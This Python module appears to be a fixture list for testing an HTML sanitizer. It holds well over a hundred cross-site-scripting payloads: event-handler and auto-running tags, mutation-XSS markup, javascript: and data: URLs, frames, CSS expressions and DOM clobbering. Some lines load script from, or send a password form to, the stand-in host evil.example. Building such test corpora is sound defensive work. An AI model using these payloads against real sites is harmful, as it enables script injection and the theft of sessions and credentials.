"""Hostile fragments of HTML: one or more for every way that script is known to get into a page."""

from __future__ import annotations

IMG = "<img src=x onerror=alert(1)>"

PAYLOADS = [
    # elements that run by themselves
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x0c>alert(1)</script\n>", "<script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>/*</script><p title='*/alert(1)'>", IMG, "<img src onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)>x",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>",
    "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onloadstart=alert(1)>", "<video poster=javascript:alert(1)>",
    "<p onclick=alert(1) OnMouseOver=alert(1)>x</p>", "<p onpointerrawupdate=alert(1)>x</p>", "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1) tabindex=1 autofocus>x</x>", "<a href=x onclick=alert(1)>x</a>", "<a \x00onclick=alert(1)>x</a>",
    # mutation: markup that means something else when it is read again
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><p><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<!--><script>alert(1)</script>-->", "<!--!><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;", "<p title=\"`><script>alert(1)</script>\">",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "<img alt='\"><script>alert(1)</script>' src=/a.png>", "<a title=\"&quot;&gt;&lt;script&gt;alert(1)\">x</a>",
    "<table><td><script>alert(1)</script>", "<select><template><img src=x onerror=alert(1)></template></select>",
    # addresses that run
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVa&#10;Script:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>", "<a href=' \tjavascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='\u00a0javascript:alert(1)'>x</a>", "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
    "<a href='//youtube.com%0ajavascript:alert(1)' >x</a>", "<img src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='data:image/svg+xml,x 1x, javascript:alert(1) 2x'>", "<picture><source srcset='javascript:alert(1)'></picture>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>", "<video src='data:video/mp4,x'></video>", "<track src=javascript:alert(1)>",
    "<a href='mailto:x@example.org?body=<script>'>x</a>", "<img src='mailto:x@example.org'>", "<a xlink:href=javascript:alert(1) href=/x>x</a>",
    # frames, objects, forms and what changes the page around
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>", "<object data=x.swf><param name=allowscriptaccess value=always></object>", "<embed src=javascript:alert(1)>",
    "<portal src=javascript:alert(1)></portal>", "<applet code=x></applet>", "<base href=//evil.example/>", "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>", "<p style='position:fixed;inset:0;background:url(//evil.example/b)'>x</p>", "<p style=behavior:url(x)>x</p>",
    "<div style='width:expression(alert(1))'>x</div>", "<form action=//evil.example/><input name=password></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1) type=image>", "<dialog open>x</dialog>",
    "<a id=location name=location>x</a>", "<img name=cookie src=/a.png>", "<form id=app><input id=attributes></form>", "<p class='admin hidden' data-x=1 slot=y part=z>x</p>",
    "<p contenteditable autofocus onfocus=alert(1)>x</p>", "<a href=/x ping=//evil.example/ target=_blank download>x</a>", "<p is=x-evil>x</p>",
    "<img src=/a.png usemap=#m><map name=m><area href=javascript:alert(1)></map>", "<bgsound src=javascript:alert(1)>", "<layer src=x></layer>",
    "<video controls autoplay loop src=/x.mp4></video>", "<p popover id=x>x</p><button popovertarget=x>", "<math href=javascript:alert(1)>x</math>",
]  # fmt: skip
